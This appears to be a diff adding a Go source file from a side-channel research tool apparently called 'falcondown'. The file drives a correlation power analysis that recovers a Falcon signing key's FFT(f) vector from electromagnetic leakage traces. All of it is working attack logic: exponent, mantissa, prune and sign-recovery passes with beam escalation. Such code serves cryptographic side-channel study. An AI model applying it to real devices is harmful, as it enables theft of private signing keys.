@@ -1,0 +1,335 @@
+package core
+
+import (
+	"io"
+	"runtime"
+	"sync"
+
+	"falcondown/internal/cpa"
+	"falcondown/internal/emleak"
+	"falcondown/internal/fft"
+	"falcondown/internal/fpr"
+	"falcondown/internal/tracestore"
+)
+
+// Source is the attack's streamed view of a campaign: a replayable,
+// sequentially-iterable corpus (an alias of tracestore.Source, so disk
+// corpora, slices and future backends all plug in). The whole-key attack
+// makes a bounded number of passes over it — one per extend round plus a
+// handful for exponents, prune, signs and retries — so peak memory never
+// scales with the number of traces.
+type Source = tracestore.Source
+
+// sweep feeds every job one sequential pass over the corpus.
+func sweep(src Source, jobs []passJob) error {
+	it, err := src.Iterate()
+	if err != nil {
+		return err
+	}
+	defer it.Close()
+	for {
+		o, err := it.Next()
+		if err == io.EOF {
+			return nil
+		}
+		if err != nil {
+			return err
+		}
+		for _, j := range jobs {
+			j.observe(o)
+		}
+	}
+}
+
+// runPass drives one logical campaign pass for all jobs. Jobs are
+// partitioned across GOMAXPROCS workers, each running its own sweep with
+// its own iterator, so no per-observation synchronization is needed and
+// every job still sees the corpus in order — results are deterministic
+// for any worker count.
+func runPass(src Source, jobs []passJob) error {
+	if len(jobs) == 0 {
+		return nil
+	}
+	workers := runtime.GOMAXPROCS(0)
+	if workers > len(jobs) {
+		workers = len(jobs)
+	}
+	if workers <= 1 {
+		return sweep(src, jobs)
+	}
+	per := (len(jobs) + workers - 1) / workers
+	errs := make([]error, workers)
+	var wg sync.WaitGroup
+	for w := 0; w < workers; w++ {
+		lo := w * per
+		hi := min(lo+per, len(jobs))
+		if lo >= hi {
+			break
+		}
+		wg.Add(1)
+		go func(w int, part []passJob) {
+			defer wg.Done()
+			errs[w] = sweep(src, part)
+		}(w, jobs[lo:hi])
+	}
+	wg.Wait()
+	for _, err := range errs {
+		if err != nil {
+			return err
+		}
+	}
+	return nil
+}
+
+// mantItem names one value (index 2·coeff + part) and the beam
+// configuration for its mantissa attack.
+type mantItem struct {
+	idx int
+	cfg Config
+}
+
+// mantOut is the prune verdict of one value's mantissa attack.
+type mantOut struct {
+	d, c      uint64
+	corr, gap float64
+}
+
+// runMantissa runs the extend rounds and the prune phase of all listed
+// values against shared corpus passes: every pass feeds every value's
+// round job, so the pass count is bounded by the round count (≤7 with the
+// default 5-bit window), not by the number of values.
+func runMantissa(src Source, items []mantItem) ([]mantOut, error) {
+	los := make([]*extendState, len(items))
+	his := make([]*extendState, len(items))
+	states := make([]*extendState, 0, 2*len(items))
+	for i, it := range items {
+		coeff, part := it.idx/2, Part(it.idx%2)
+		los[i] = newExtendState(coeff, part, loBits, false, it.cfg)
+		his[i] = newExtendState(coeff, part, hiBits, true, it.cfg)
+		states = append(states, los[i], his[i])
+	}
+	for {
+		var jobs []passJob
+		var active []*extendState
+		for _, s := range states {
+			if !s.done() {
+				jobs = append(jobs, s.beginRound())
+				active = append(active, s)
+			}
+		}
+		if len(jobs) == 0 {
+			break
+		}
+		if err := runPass(src, jobs); err != nil {
+			return nil, err
+		}
+		for _, s := range active {
+			s.endRound()
+		}
+	}
+	pjobs := make([]*pruneJob, len(items))
+	jobs := make([]passJob, len(items))
+	for i, it := range items {
+		pjobs[i] = newPruneJob(it.idx/2, Part(it.idx%2), los[i].cands, his[i].cands)
+		jobs[i] = pjobs[i]
+	}
+	if err := runPass(src, jobs); err != nil {
+		return nil, err
+	}
+	out := make([]mantOut, len(items))
+	for i, pj := range pjobs {
+		out[i].d, out[i].c, out[i].corr, out[i].gap = pj.result()
+	}
+	return out, nil
+}
+
+// AttackFFTf recovers the full FFT(f) vector from an in-memory campaign —
+// a thin wrapper over the streamed attack.
+func AttackFFTf(obs []emleak.Observation, cfg Config) ([]fft.Cplx, []ValueResult, error) {
+	if len(obs) == 0 {
+		return nil, nil, errNoTraces
+	}
+	return AttackFFTfFrom(tracestore.NewSliceSource(2*len(obs[0].CFFT), obs), cfg)
+}
+
+// AttackFFTfFrom recovers the full FFT(f) vector (all real and imaginary
+// parts) from a streamed campaign. All values advance through the attack
+// phases together — exponents, extend rounds, prune, joint signs — with
+// each phase one shared pass over the corpus. After the first pass,
+// values whose prune correlation falls far below the campaign's median (a
+// reliable signature of the extend phase having dropped the true prefix)
+// are re-attacked with a much larger candidate beam.
+func AttackFFTfFrom(src Source, cfg Config) ([]fft.Cplx, []ValueResult, error) {
+	cfg = cfg.withDefaults()
+	if src == nil || src.Count() == 0 {
+		return nil, nil, errNoTraces
+	}
+	n := src.N()
+	half := n / 2
+	count := src.Count()
+	nVals := 2 * half
+
+	// Exponent pass for every value.
+	expJobs := make([]*expJob, nVals)
+	jobs := make([]passJob, nVals)
+	for v := range expJobs {
+		expJobs[v] = newExpJob(v/2, Part(v%2))
+		jobs[v] = expJobs[v]
+	}
+	if err := runPass(src, jobs); err != nil {
+		return nil, nil, err
+	}
+	mags := make([]magnitude, nVals)
+	for v := range mags {
+		be, corr, alts := expJobs[v].result(n)
+		mags[v] = magnitude{biasedExp: be, expAlts: alts, expCorr: corr}
+	}
+
+	// Extend + prune for every value, batched into shared passes.
+	all := make([]mantItem, nVals)
+	for v := range all {
+		all[v] = mantItem{idx: v, cfg: cfg}
+	}
+	outs, err := runMantissa(src, all)
+	if err != nil {
+		return nil, nil, err
+	}
+	for v := range mags {
+		mags[v].mant = assembleMant(outs[v].d, outs[v].c)
+		mags[v].pruneCorr = outs[v].corr
+		mags[v].gap = outs[v].gap
+	}
+
+	// Escalation: a weak prune winner usually means the extend phase
+	// dropped the true prefix; re-run those values with a TopK×8 beam.
+	if cfg.TopK < maxTopK {
+		big := cfg
+		big.TopK = min(cfg.TopK*8, maxTopK)
+		var esc []mantItem
+		for v := range mags {
+			if mags[v].pruneCorr < cfg.EscalateBelow {
+				esc = append(esc, mantItem{idx: v, cfg: big})
+			}
+		}
+		if len(esc) > 0 {
+			eouts, err := runMantissa(src, esc)
+			if err != nil {
+				return nil, nil, err
+			}
+			for i, it := range esc {
+				if eouts[i].corr > mags[it.idx].pruneCorr {
+					mags[it.idx].mant = assembleMant(eouts[i].d, eouts[i].c)
+					mags[it.idx].pruneCorr = eouts[i].corr
+					mags[it.idx].gap = eouts[i].gap
+					mags[it.idx].escalated = true
+				}
+			}
+		}
+	}
+
+	// Joint sign pass for every coefficient.
+	jjobs := make([]*jointSignJob, half)
+	jobs = jobs[:half]
+	for k := 0; k < half; k++ {
+		jjobs[k] = newJointSignJob(k, mags[2*k].abs(), mags[2*k+1].abs())
+		jobs[k] = jjobs[k]
+	}
+	if err := runPass(src, jobs); err != nil {
+		return nil, nil, err
+	}
+
+	out := make([]fft.Cplx, half)
+	results := make([]ValueResult, nVals)
+	thr := cpa.Threshold(cfg.Confidence, count)
+	for k := 0; k < half; k++ {
+		sRe, sIm, signCorr := jjobs[k].result()
+		re := fpr.FPR(uint64(sRe)<<63) | mags[2*k].abs()
+		im := fpr.FPR(uint64(sIm)<<63) | mags[2*k+1].abs()
+		out[k] = fft.Cplx{Re: re, Im: im}
+		for p, v := range []fpr.FPR{re, im} {
+			m := mags[2*k+p]
+			results[2*k+p] = ValueResult{
+				Value:           v,
+				SignCorr:        signCorr,
+				ExpCorr:         m.expCorr,
+				ExpAlternatives: m.expAlts,
+				PruneCorr:       m.pruneCorr,
+				RunnerUpGap:     m.gap,
+				Escalated:       m.escalated,
+				Significant:     signCorr >= thr && m.expCorr >= thr && m.pruneCorr >= thr,
+				TracesUsed:      count,
+			}
+		}
+	}
+
+	// Second chance for stragglers: values far below the campaign's
+	// median prune correlation re-run with the maximal beam (their extend
+	// passes are shared); accepted fixes redo the joint sign attack with
+	// the corrected magnitudes.
+	med := medianPrune(results)
+	retry := cfg
+	retry.TopK = maxTopK
+	retry.EscalateBelow = -1 // beam already maximal; no inner escalation
+	var weak []mantItem
+	for v := range results {
+		if results[v].PruneCorr < 0.8*med {
+			weak = append(weak, mantItem{idx: v, cfg: retry})
+		}
+	}
+	if len(weak) > 0 {
+		wouts, err := runMantissa(src, weak)
+		if err != nil {
+			return nil, nil, err
+		}
+		for i, it := range weak {
+			v := it.idx
+			k, part := v/2, Part(v%2)
+			r := results[v]
+			if wouts[i].corr <= r.PruneCorr {
+				continue
+			}
+			mag := mags[v]
+			mag.mant = assembleMant(wouts[i].d, wouts[i].c)
+			old := out[k]
+			sRe, sIm := old.Re.Sign(), old.Im.Sign()
+			if part == PartRe {
+				out[k].Re = fpr.FPR(uint64(sRe)<<63) | mag.abs()
+			} else {
+				out[k].Im = fpr.FPR(uint64(sIm)<<63) | mag.abs()
+			}
+			absRe := fpr.Abs(out[k].Re)
+			absIm := fpr.Abs(out[k].Im)
+			jj := newJointSignJob(k, absRe, absIm)
+			if err := runPass(src, []passJob{jj}); err != nil {
+				return nil, nil, err
+			}
+			s0, s1, signCorr := jj.result()
+			out[k].Re = fpr.FPR(uint64(s0)<<63) | absRe
+			out[k].Im = fpr.FPR(uint64(s1)<<63) | absIm
+			r.Value = out[k].Re
+			if part == PartIm {
+				r.Value = out[k].Im
+			}
+			r.PruneCorr = wouts[i].corr
+			r.RunnerUpGap = wouts[i].gap
+			r.SignCorr = signCorr
+			r.Escalated = true
+			results[v] = r
+		}
+	}
+	return out, results, nil
+}
+
+// medianPrune returns the median prune correlation across values.
+func medianPrune(results []ValueResult) float64 {
+	vals := make([]float64, len(results))
+	for i, r := range results {
+		vals[i] = r.PruneCorr
+	}
+	for i := 1; i < len(vals); i++ {
+		for j := i; j > 0 && vals[j] < vals[j-1]; j-- {
+			vals[j], vals[j-1] = vals[j-1], vals[j]
+		}
+	}
+	return vals[len(vals)/2]
+}
